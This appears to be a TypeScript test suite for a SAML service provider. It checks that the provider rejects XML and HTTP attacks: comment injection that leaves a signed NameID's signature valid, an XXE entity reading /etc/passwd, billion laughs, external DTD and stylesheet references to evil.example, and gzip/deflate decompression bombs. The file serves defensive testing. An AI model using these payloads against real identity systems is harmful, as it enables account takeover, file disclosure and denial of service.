/**
 * SAML at the XML and HTTP level: comment and whitespace tricks in the NameID, DTDs (external
 * entities, billion laughs), processing instructions, oversized and compressed bodies (deflate
 * bombs), malformed encodings, and message kinds the SP does not accept.
 */
import { deflateRawSync, gzipSync } from 'node:zlib';
import t from 'tap';
import { SignedXml } from 'xml-crypto';
import { TEST_IDP_CERT } from '../support/fixtures.js';
import { usersIn } from '../support/gatewayHarness.js';
import { buildResponseXml, DSIG, parseXml } from '../support/samlForge.js';
import { ACS_PATH, samlScenario } from '../support/samlScenario.js';

/** Whether every signature in the document still verifies with the IdP certificate. */
function signaturesStillValid(xml: string): boolean {
  const doc = parseXml(xml);
  const signatures = doc.getElementsByTagNameNS(DSIG, 'Signature');
  for (let i = 0; i < signatures.length; i++) {
    const sig = new SignedXml({ publicCert: TEST_IDP_CERT });
    sig.loadSignature(signatures.item(i) as Node);
    if (!sig.checkSignature(xml)) return false;
  }
  return signatures.length > 0;
}

t.test('NameID tricks', async (t) => {
  const s = await samlScenario(t);

  t.test('a comment splitting a signed NameID (admin<!---->@example.com.evil) is refused', async (t) => {
    const start = await s.start();
    const signed = s.response(start, { nameId: 'admin@example.com.evil' });
    const tricked = signed.replace('>admin@example.com.evil<', '>admin<!---->@example.com.evil<');
    t.not(tricked, signed);
    t.ok(signaturesStillValid(tricked), 'the attack is real: exclusive c14n drops comments, so the signature still verifies');
    await s.expectRejected(t, () => s.post(tricked, start), 'saml-xml-comment-forbidden');
  });

  t.test('a comment anywhere else is refused too', async (t) => {
    const start = await s.start();
    const tricked = s.response(start).replace('<saml:Subject>', '<saml:Subject><!-- hello -->');
    await s.expectRejected(t, () => s.post(tricked, start), 'saml-xml-comment-forbidden');
  });

  t.test('whitespace added to a signed NameID breaks the signature', async (t) => {
    const start = await s.start();
    const tricked = s.response(start, { nameId: 'admin' }).replace('>admin</saml:NameID>', '> admin\n</saml:NameID>');
    await s.expectRejected(t, () => s.post(tricked, start), 'saml-signature-invalid');
  });

  t.test('a signed NameID with surrounding whitespace is refused, not trimmed into another identity', async (t) => {
    const admin = await s.start();
    t.equal((await s.post(s.response(admin, { nameId: 'admin' }), admin)).statusCode, 302, 'the real admin');
    for (const nameId of [' admin', 'admin ', 'admin\n', '\tadmin']) {
      const start = await s.start();
      await s.expectRejected(t, () => s.post(s.response(start, { nameId }), start), 'saml-nameid-invalid');
    }
    t.same((await usersIn(s.gw.runtime)).map((u) => u.username), ['admin']);
  });

  t.test('a look-alike NameID (fullwidth, NFKC-equal to admin) cannot take over the admin user', async (t) => {
    const start = await s.start();
    await s.expectRejected(t, () => s.post(s.response(start, { nameId: 'ａｄｍｉｎ' }), start), 'username-conflict');
    const [admin] = await usersIn(s.gw.runtime);
    t.match(admin, { username: 'admin', email: 'alice@example.com' }, 'the admin user is untouched');
  });

  t.test('an invisible character in the NameID is refused by the username rules', async (t) => {
    const start = await s.start();
    await s.expectRejected(t, () => s.post(s.response(start, { nameId: 'ad\u200bmin' }), start), 'invalid-username');
  });
});

t.test('DTDs and processing instructions', async (t) => {
  const s = await samlScenario(t);
  const withDoctype = (xml: string, doctype: string, nameIdReplacement?: string) =>
    `<?xml version="1.0"?>${doctype}${nameIdReplacement ? xml.replace('>alice</saml:NameID>', `>${nameIdReplacement}</saml:NameID>`) : xml}`;

  t.test('an external entity (XXE) is refused before parsing', async (t) => {
    const start = await s.start();
    const xml = withDoctype(s.response(start), '<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>', '&xxe;');
    const res = await s.expectRejected(t, () => s.post(xml, start), 'saml-dtd-forbidden');
    t.notMatch(res.body, /root:/, 'no file content anywhere');
  });

  t.test('billion laughs is refused quickly', async (t) => {
    const start = await s.start();
    const lol = ['<!ENTITY lol "lol">', ...Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i === 0 ? '' : i};`.repeat(10)}">`)].join('');
    const xml = withDoctype(s.response(start), `<!DOCTYPE lolz [${lol}]>`, '&lol9;');
    const began = Date.now();
    await s.expectRejected(t, () => s.post(xml, start), 'saml-dtd-forbidden');
    t.ok(Date.now() - began < 2000, 'answered without expanding anything');
  });

  t.test('a lower-case doctype and a parameter entity are refused', async (t) => {
    const start = await s.start();
    const xml = withDoctype(s.response(start), '<!doctype r [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>');
    await s.expectRejected(t, () => s.post(xml, start), 'saml-dtd-forbidden');
  });

  t.test('a processing instruction is refused', async (t) => {
    const start = await s.start();
    const xml = `<?xml version="1.0"?><?xml-stylesheet href="http://evil.example/x.xsl"?>${s.response(start)}`;
    await s.expectRejected(t, () => s.post(xml, start), 'saml-processing-instruction-forbidden');
  });

  t.test('an XML declaration alone is fine', async (t) => {
    const start = await s.start();
    t.equal((await s.post(`<?xml version="1.0" encoding="UTF-8"?>${s.response(start, { nameId: 'declared' })}`, start)).statusCode, 302);
  });
});

t.test('sizes and encodings', async (t) => {
  const s = await samlScenario(t);

  t.test('a form body over the limit is refused without being read into a response', async (t) => {
    const start = await s.start();
    await s.expectRejected(t, () => s.post('A'.repeat(600 * 1024), start, { raw: true }), 'saml-response-too-large');
  });

  t.test('a decoded response over 256 KiB is refused', async (t) => {
    const start = await s.start();
    const padded = s.response(start).replace('<saml:Issuer>', `<saml:Issuer>${' '.repeat(270 * 1024)}`);
    await s.expectRejected(t, () => s.post(padded, start), 'saml-response-too-large');
  });

  for (const [encoding, compress] of [
    ['gzip', gzipSync],
    ['deflate', deflateRawSync],
  ] as const) {
    t.test(`a ${encoding}-compressed body (a decompression bomb) is refused unread`, async (t) => {
      const bomb = compress(Buffer.alloc(64 * 1024 * 1024, 'A'));
      t.ok(bomb.length < 200 * 1024, `${bomb.length} bytes that would inflate to 64 MiB`);
      const before = process.memoryUsage().rss;
      const began = Date.now();
      await s.expectRejected(
        t,
        () => s.gw.app.inject({ method: 'POST', url: ACS_PATH, headers: { 'content-type': 'application/x-www-form-urlencoded', 'content-encoding': encoding }, payload: bomb }),
        'saml-content-encoding-refused',
      );
      t.ok(Date.now() - began < 2000, 'answered quickly');
      t.ok(process.memoryUsage().rss - before < 48 * 1024 * 1024, 'nothing was inflated');
    });
  }

  t.test('a deflated SAMLResponse (redirect-binding style) is never inflated', async (t) => {
    const start = await s.start();
    const deflated = deflateRawSync(Buffer.from(`<samlp:Response>${'<a>'.repeat(4 * 1024 * 1024)}</samlp:Response>`)).toString('base64');
    t.ok(deflated.length < 64 * 1024, 'a small post that would inflate to 12 MiB');
    await s.expectRejected(t, () => s.post(deflated, start, { raw: true }), /^saml-/);
  });

  t.test('the redirect binding is not accepted for responses', async (t) => {
    const res = await s.gw.app.inject({ method: 'GET', url: `${ACS_PATH}?SAMLResponse=${encodeURIComponent(deflateRawSync(Buffer.from('<x/>')).toString('base64'))}` });
    t.equal(res.statusCode, 404);
    t.same(await usersIn(s.gw.runtime), []);
  });

  t.test('SAMLResponse that is not base64 is refused', async (t) => {
    const start = await s.start();
    await s.expectRejected(t, () => s.post('<samlp:Response/>%%', start, { raw: true }), 'saml-response-not-base64');
  });

  t.test('two SAMLResponse fields are refused', async (t) => {
    const start = await s.start();
    const one = Buffer.from(s.response(start)).toString('base64');
    await s.expectRejected(
      t,
      () =>
        s.gw.app.inject({
          method: 'POST',
          url: ACS_PATH,
          headers: { 'content-type': 'application/x-www-form-urlencoded' },
          payload: `SAMLResponse=${encodeURIComponent(one)}&SAMLResponse=${encodeURIComponent(one)}`,
        }),
      'saml-response-missing',
    );
  });

  t.test('a JSON body is refused as the wrong media type', async (t) => {
    const res = await s.expectRejected(t, () => s.gw.app.inject({ method: 'POST', url: ACS_PATH, payload: { SAMLResponse: 'x' } }));
    t.equal(res.statusCode, 415);
  });
});

t.test('message kinds the SP does not accept', async (t) => {
  const s = await samlScenario(t);

  t.test('an encrypted assertion is refused (no decryption key is configured)', async (t) => {
    const start = await s.start();
    const xml = buildResponseXml(s.fields(start)).replace(
      /<saml:Assertion [\s\S]*<\/saml:Assertion>/,
      '<saml:EncryptedAssertion><xenc:EncryptedData xmlns:xenc="http://www.w3.org/2001/04/xmlenc#"/></saml:EncryptedAssertion>',
    );
    await s.expectRejected(t, () => s.post(s.sign(xml, 'response'), start), /^saml-(encrypted-assertion-unsupported|signature-invalid)$/);
  });

  t.test('a signed error status without an assertion is refused', async (t) => {
    const start = await s.start();
    const xml = buildResponseXml(s.fields(start, { statusCode: 'urn:oasis:names:tc:SAML:2.0:status:Responder' })).replace(/<saml:Assertion [\s\S]*<\/saml:Assertion>/, '');
    await s.expectRejected(t, () => s.post(s.sign(xml, 'response'), start), 'saml-status-not-success');
  });

  t.test('a signed assertion inside a response whose status is a failure is refused', async (t) => {
    const start = await s.start();
    const xml = s.response(start, { statusCode: 'urn:oasis:names:tc:SAML:2.0:status:Requester' });
    await s.expectRejected(t, () => s.post(xml, start), 'saml-status-not-success');
  });

  t.test('a transient NameID is refused (it cannot identify a returning user)', async (t) => {
    const start = await s.start();
    const xml = s.response(start, { nameId: '_6c3a4f8b9d', nameIdFormat: 'urn:oasis:names:tc:SAML:2.0:nameid-format:transient' });
    await s.expectRejected(t, () => s.post(xml, start), 'saml-nameid-transient');
  });

  t.test('a response without a NameID is refused', async (t) => {
    const start = await s.start();
    const xml = buildResponseXml(s.fields(start)).replace(/<saml:NameID [^>]*>alice<\/saml:NameID>/, '');
    await s.expectRejected(t, () => s.post(s.sign(xml), start), 'saml-nameid-missing');
  });

  t.test('a LogoutResponse posted to the consumer is refused', async (t) => {
    const start = await s.start();
    const xml = `<samlp:LogoutResponse xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_x" Version="2.0" IssueInstant="${new Date().toISOString()}" InResponseTo="${start.requestId}"><samlp:Status><samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Success"/></samlp:Status></samlp:LogoutResponse>`;
    await s.expectRejected(t, () => s.post(xml, start), /^saml-/);
  });

  t.test('an attribute set beyond the LoginSucceeded bounds is refused', async (t) => {
    const start = await s.start();
    const attributes = Object.fromEntries(Array.from({ length: 501 }, (_, i) => [`attr-${i}`, ['x']]));
    await s.expectRejected(t, () => s.post(s.response(start, { nameId: 'many', attributes: { ...attributes, email: ['m@example.com'], displayName: ['M'] } }), start), 'saml-login-invalid');
  });

  t.test('attribute values are taken from the signed assertion, merged across Attribute elements', async (t) => {
    const start = await s.start();
    const xml = buildResponseXml(s.fields(start, { nameId: 'carol', attributes: { displayName: ['Carol'], email: ['carol@example.com'], groups: ['a'] } })).replace(
      '</saml:AttributeStatement>',
      `<saml:Attribute Name="groups"><saml:AttributeValue>b</saml:AttributeValue></saml:Attribute></saml:AttributeStatement>`,
    );
    t.equal((await s.post(s.sign(xml), start)).statusCode, 302);
    const carol = (await usersIn(s.gw.runtime)).find((u) => u.username === 'carol');
    t.same([...(carol?.groups ?? [])].sort(), ['a', 'b']);
  });
});
